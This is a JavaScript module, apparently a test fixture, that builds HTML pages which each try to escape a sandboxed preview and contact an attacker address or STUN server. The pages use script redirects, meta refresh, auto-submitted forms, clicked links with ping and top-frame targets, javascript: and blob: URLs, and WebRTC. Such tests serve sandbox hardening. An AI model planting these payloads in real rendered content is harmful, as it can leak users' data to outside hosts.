// Pages that try to leave the preview, one each: name -> page. `A` is the attacker's address.
export const leaving = (A, stun) => ({
  'self-navigation': `<script>location = '${A}/self-navigation'</script>`,
  'self-replace': `<script>location.replace('${A}/self-replace')</script>`,
  'meta-refresh': `<meta http-equiv="refresh" content="0; url=${A}/meta-refresh">`,
  'form-get': `<form action="${A}/form-get"><input name="x"></form><script>document.forms[0].submit()</script>`,
  'form-post': `<form action="${A}/form-post" method="post"><input name="x"></form><script>document.forms[0].requestSubmit()</script>`,
  'link-click': `<a href="${A}/link-click">x</a><script>document.querySelector('a').click()</script>`,
  'link-ping': `<a href="#x" ping="${A}/link-ping">x</a><script>document.querySelector('a').click()</script>`,
  'link-top': `<a href="${A}/link-top" target="_top">x</a><script>document.querySelector('a').click()</script>`,
  'link-parent': `<a href="${A}/link-parent" target="_parent">x</a><script>document.querySelector('a').click()</script>`,
  'document-write': `<script>document.open(); document.write('<img src="${A}/document-write">'); document.close()</script>`,
  'javascript-url': `<script>location = "javascript:fetch('${A}/javascript-url',{mode:'no-cors'})"</script>`,
  'blob-navigation': `<script>location = URL.createObjectURL(new Blob(["<img src='${A}/blob-navigation'>"], {type:'text/html'}))</script>`,
  rtc: `<script>new RTCPeerConnection({iceServers:[{urls:'${stun}'}]}).createDataChannel('x')</script>`,
  'rtc-in-frame': `<iframe srcdoc="<script>const c = new RTCPeerConnection({iceServers:[{urls:'${stun}'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))</script>"></iframe>`,
})
